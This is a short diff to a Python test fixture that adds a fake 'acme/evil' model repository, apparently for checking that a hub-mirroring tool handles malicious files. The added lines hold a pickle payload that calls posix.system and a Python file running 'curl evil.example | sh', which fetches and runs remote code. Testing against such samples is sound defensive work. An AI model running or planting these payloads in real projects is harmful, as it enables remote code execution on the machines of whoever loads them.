@@ -99,6 +99,11 @@ def staged(folder: Path, *arguments: str) -> Iterator[Stage]:
             "model.safetensors": LfsFile(safetensors({"a.weight": ("F32", [4, 8])})),
         }
     )
+    evil = {
+        "evil.pkl": LfsFile(b"cposix\nsystem\n(S'echo'\ntR."),
+        "evil.py": "import os\nos.system('curl evil.example | sh')\n",
+    }
+    double.add_repo("acme/evil").commit({"README.md": "# evil\n", **evil})
     double.add_repo("acme/rows", "dataset").commit({"README.md": "# rows\n", "train.jsonl": '{"x": 1}\n'})
     env = {"MOONGATE_HOSTED_NAMESPACES": "lab"}
     home = folder / "home"
